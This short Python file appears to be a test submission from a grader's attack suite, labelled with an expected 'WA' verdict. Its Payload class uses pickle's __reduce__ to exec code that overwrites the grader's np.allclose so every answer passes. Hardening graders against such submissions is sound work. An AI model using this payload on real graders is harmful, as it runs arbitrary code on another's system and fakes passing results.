# attack: an answer that runs code where it is unpickled
# verdicts: WA
# message: which is no number, list or array
# control: fools unpickling
class Payload:
    def __reduce__(self):
        code = "__import__('sys').modules['__main__'].np.allclose = lambda *arguments, **named: True"
        return exec, (code,)


def solution(numbers):
    return Payload()
